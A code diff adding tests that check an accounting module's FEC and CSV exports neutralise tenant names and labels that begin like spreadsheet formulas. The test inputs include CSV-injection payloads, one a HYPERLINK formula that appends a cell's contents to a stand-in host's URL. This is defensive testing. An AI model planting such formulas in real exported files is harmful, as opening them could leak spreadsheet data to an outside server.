@@ -111,3 +111,35 @@ def test_tenant_sub_ledgers_are_named_after_their_tenants() -> None:
         ("L-2", "Awa DIALLO et Jean MARTIN"),
         ("L-1", "L-1"),
     }
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x.example/?"&A1,"Payer")', "+33 1 23", "-2+3", "@SUM(A1)"]
+)
+def test_formula_like_names_are_neutralised_and_the_fec_stays_legal(name: str) -> None:
+    text = entries_as_fec([_entry(label=f"{name} loyer")], {"B-001": name})
+    lines = text.split("\r\n")
+    assert len(lines) == 4
+    for row in lines[1:3]:
+        fields = row.split("|")
+        assert len(fields) == 18
+        assert not any(f.startswith(("=", "+", "-", "@")) for f in fields)
+        assert fields[10].endswith("loyer")
+    assert lines[2].split("|")[7].lstrip("=+-@ ")  # the tenant label keeps its text
+
+
+def test_csv_cells_that_start_like_a_formula_get_an_apostrophe() -> None:
+    import csv
+    import io
+
+    from functions.core.accounting import csv_safe, entries_as_csv
+
+    assert csv_safe("=HYPERLINK(1)") == "'=HYPERLINK(1)"
+    assert csv_safe("\tx") == "'\tx" and csv_safe("@x") == "'@x" and csv_safe("Zoé") == "Zoé"
+    evil = '=HYPERLINK("http://x.example","clic")'
+    rows = list(csv.reader(io.StringIO(entries_as_csv([_entry(label=evil)])), delimiter=";"))
+    assert len(rows) == 3
+    for row in rows[1:]:
+        assert row[5] == "'" + evil
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+        assert row[6][0].isdigit() and row[7][0].isdigit()  # amounts stay numbers
